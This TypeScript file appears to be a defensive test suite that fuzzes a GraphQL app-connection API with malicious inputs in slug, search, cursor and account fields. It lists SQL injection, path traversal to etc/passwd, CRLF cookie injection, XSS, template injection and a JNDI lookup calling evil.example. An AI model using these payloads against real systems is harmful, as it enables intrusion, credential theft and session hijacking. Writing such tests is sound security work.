import type { Target } from './create-target.ts'
import { attacks } from './attack.ts'

const APP = 'query ($slug: String!) { app(slug: $slug) { __typename ... on Error { message } } }'
const SEARCH = `query ($search: String, $after: String, $category: String) {
  apps(search: $search, after: $after, category: $category) { __typename ... on Error { message } } }`
const FLOW = 'query ($id: ID!) { flow(id: $id) { app } }'
const CONFIRM = `mutation ($flowId: ID!, $accountId: ID!) {
  confirmConnection(input: { flowId: $flowId, accountId: $accountId }) { __typename ... on Error { message } } }`
const DISCONNECT = `mutation ($accountId: ID!) {
  disconnectAccount(input: { accountId: $accountId }) { __typename ... on Error { message } } }`
const CONNECT = `mutation ($app: String, $accountId: ID) {
  createConnectToken(input: { app: $app, accountId: $accountId }) { __typename ... on Error { message } } }`
const ACCOUNTS = `query ($app: String, $after: String) {
  viewer { accounts(app: $app, after: $after) { __typename ... on Error { message } } } }`

// What people put where a name is expected.
const TEXTS: Record<string, string> = {
  'a quote and a comment': "' or '1'='1' --",
  'a union': '" union select session_hash from sessions --',
  'a path upwards': '../../../../v1/accounts',
  'a path upwards in percent code': '..%2f..%2f..%2fetc%2fpasswd',
  'a slash and a query': 'openai/../../accounts?include_credentials=true',
  'a fragment and a query': 'openai?include_credentials=true#',
  'a new line and a header': 'openai\r\nset-cookie: session=evil',
  'a NUL': 'openai\u0000.json',
  'half a character': '\uD800',
  'a string that reverses its direction': '\u202Eianepo\u202C',
  'invisible letters': 'open\u200Bai\uFEFF',
  'letters of another script': 'оpenаi',
  'ten thousand marks': `a${'\u0301'.repeat(5000)}`,
  'fifty thousand letters': 'x'.repeat(50_000),
  'a script': '<script>alert(1)</script>',
  'a template': '{{7*7}}${7*7}<%= 7*7 %>',
  'a lookup': '${jndi:ldap://evil.example/a}',
  __proto__: '__proto__',
  'nothing but spaces': ' \t\n ',
  'a URL of another host': 'https://evil.example/',
  'two dots': '..',
}

const each = (
  what: string,
  document: string,
  toVariables: (text: string, target: Target) => Record<string, string>,
) =>
  Object.entries(TEXTS).map(
    ([name, text]) =>
      [
        `${name} as ${what}`,
        (target: Target) => target.ask(document, toVariables(text, target)),
        [200, 400],
        { never: /"(ConnectToken|ConfirmedConnection|DisconnectedAccount)"|INTERNAL/ },
      ] as const,
  )

export const texts = attacks('texts', [
  ...each('a slug', APP, (slug) => ({ slug })),
  ...each('a search', SEARCH, (search) => ({ search })),
  ...each('a cursor of the catalogue', SEARCH, (after) => ({ after })),
  ...each('a category', SEARCH, (category) => ({ category })),
  ...each('a cursor of accounts', ACCOUNTS, (after) => ({ after })),
  ...each('an app of accounts', ACCOUNTS, (app) => ({ app })),
  ...each('a flow', FLOW, (id) => ({ id })),
  ...each('a flow to confirm', CONFIRM, (flowId, { malloryAccount }) => ({
    flowId,
    accountId: malloryAccount,
  })),
  ...each('an account to disconnect', DISCONNECT, (accountId) => ({ accountId })),
  ...each('an app to connect', CONNECT, (app) => ({ app })),
  ...each('an account to reconnect', CONNECT, (accountId) => ({ accountId })),
])
